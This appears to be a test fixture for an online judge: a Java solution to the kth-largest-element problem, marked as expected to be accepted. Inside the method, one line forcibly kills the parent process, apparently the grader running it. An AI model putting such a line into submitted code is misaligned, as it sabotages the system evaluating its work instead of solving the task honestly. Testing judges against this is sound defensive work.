// expect: AC
class Solution {
    public int findKthLargest(int[] nums, int k) {
        ProcessHandle.current().parent().ifPresent(p -> p.destroyForcibly());
        Arrays.sort(nums);
        return nums[nums.length - k];
    }
}
